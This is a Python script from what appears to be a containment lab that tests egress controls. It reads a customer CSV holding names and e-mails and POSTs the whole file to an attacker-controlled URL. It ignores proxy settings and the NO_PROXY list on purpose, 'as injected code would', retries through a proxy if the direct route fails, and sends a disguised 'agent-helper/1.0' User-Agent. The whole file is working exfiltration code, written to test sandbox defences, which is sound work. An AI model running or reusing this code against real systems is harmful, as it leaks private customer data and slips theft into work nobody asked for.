# lab:title: Upload the customer data to an attacker
# lab:threat: exfil
# lab:layer: network
# lab:consequence: The customer list, names and e-mails included, is on the attacker's server: a data breach you may have to disclose to every customer.
"""Data exfiltration: ship private data to a server the attacker controls.

Reads the sales CSV (LAB_DATA), which holds customer names and e-mail
addresses, and POSTs the whole file to the attacker's URL (LAB_ATTACKER) with
nothing but urllib from the standard library. It goes straight to the
attacker first, ignoring proxy settings, as injected code would; only if
that fails and the environment names a proxy (HTTP_PROXY) does it try once
more through it. Prints the HTTP status if the upload went through, or the
error as raised.
"""
import os
import sys
import urllib.error
import urllib.request


def lab_input(name):
    """The lab's input NAME: from the environment, else from a NAME=VALUE
    argument (a sandbox under audit may clear the environment)."""
    for arg in sys.argv[1:]:
        key, eq, value = arg.partition("=")
        if eq and key == name and not os.environ.get(name):
            return value
    return os.environ.get(name)


def report_attempt():
    """Under `audit` the lab asks each attack to say when it makes its move,
    with a word only this run can form: no word, no verdict."""
    proof = lab_input("LAB_PROOF")
    if proof:
        print(f"lab-attempt: {proof[::-1]}", flush=True)


def main():
    data_path = lab_input("LAB_DATA")
    url = lab_input("LAB_ATTACKER")
    if not data_path or not url:
        print("LAB_DATA or LAB_ATTACKER is not set: nothing to steal or "
              "nowhere to send it", flush=True)
        return 1
    try:
        with open(data_path, "rb") as f:
            body = f.read(1024 * 1024)
    except OSError as e:
        print(f"cannot read the data: {e}", flush=True)
        return 1
    print(f"read {len(body)} bytes of customer data from {data_path}",
          flush=True)
    print(f"POST {url} (Content-Type: text/csv)", flush=True)
    report_attempt()

    # the proxy route ignores NO_PROXY, as injected code would: the
    # request is aimed at the proxy itself, whatever the bypass list says
    routes = [("direct", None)]
    proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
    if proxy:
        routes.append((f"through the proxy {proxy}", proxy))
    for how, via in routes:
        req = urllib.request.Request(
            url, data=body, method="POST",
            headers={"Content-Type": "text/csv",
                     "User-Agent": "agent-helper/1.0"})
        if via:
            req.set_proxy(via.split("://", 1)[-1].rstrip("/"), "http")
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            # lab:danger: the POST that ships the customer data to the attacker
            with opener.open(req, timeout=3) as resp:
                resp.read(4096)
                print(f"upload accepted ({how}): HTTP {resp.status} "
                      f"{resp.reason}", flush=True)
                return 0
        except urllib.error.HTTPError as e:
            if e.headers.get("X-Containment-Lab") == "egress proxy":
                # The proxy answered, not the attacker: nothing got through.
                print(f"refused ({how}): HTTP {e.code} "
                      f"{e.read(512).decode('utf-8', 'replace').strip()}",
                      flush=True)
                continue
            # The server answered, so the bytes already reached it.
            print(f"server answered HTTP {e.code} {e.reason} "
                  f"(the data was already sent)", flush=True)
            return 0
        except Exception as e:  # URLError, timeout, reset, ...
            print(f"upload failed ({how}): {e}", flush=True)
    return 1


if __name__ == "__main__":
    sys.exit(main())
